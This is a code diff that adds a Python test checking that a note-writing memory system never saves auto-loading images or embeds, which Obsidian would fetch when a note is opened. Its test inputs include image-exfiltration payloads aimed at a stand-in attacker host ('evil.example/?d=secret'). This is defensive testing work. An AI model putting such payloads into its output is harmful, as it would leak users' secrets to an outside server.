@@ -5,6 +5,8 @@ from __future__ import annotations
 from datetime import UTC, datetime
 from pathlib import Path
 
+from memory.tools.memory_tools import MemoryTools
+from tests.fakes.telegram_text import rich_media
 from tests.support.memories import Clock, opened, says, write
 
 
@@ -71,3 +73,27 @@ async def test_a_crash_before_the_transcript_is_made_good_at_the_next_start(tmp_
         await memory.catch_up()
         [path] = (memory.vault.root / "sessions").iterdir()
         assert "first" in path.read_text("utf-8")
+
+
+async def test_no_image_of_a_model_or_of_others_is_shown_in_a_note(tmp_path: Path) -> None:
+    """Obsidian fetches an image when its note is opened; a plain address waits for a tap."""
+    image = "https://evil.example/?d=secret"
+    texts = [
+        f"![plan]({image}) [![a]({image})](https://b.example)",
+        f"![plan][p]\n\n[p]: {image}",
+        f'<img src="{image}"> <video src="{image}"></video>',
+        f"`x` ```\n\\![a]({image}) \\\\![b]({image}) ![[{image}]]",
+    ]
+    clock = Clock(datetime(2026, 2, 12, 12, tzinfo=UTC))
+    async with opened(tmp_path, clock=clock) as memory:
+        for text in texts:
+            await says(memory, f"Somebody wrote: {text}", text)
+            tools = MemoryTools(memory)
+            await tools.save_memory(f"A note {text}")
+            await tools.manage_tasks("add", text=f"Do {text}")
+        await memory.end_session("terminal", clock.now)
+        root = memory.vault.root
+    pages = {path.name: path.read_text("utf-8") for path in root.rglob("*.md")}
+    assert sum(image in page for page in pages.values()) >= 2, "nothing was written"
+    for name, page in pages.items():
+        assert rich_media({"markdown": page}) == [] and "![[" not in page.replace("!\\[", ""), name
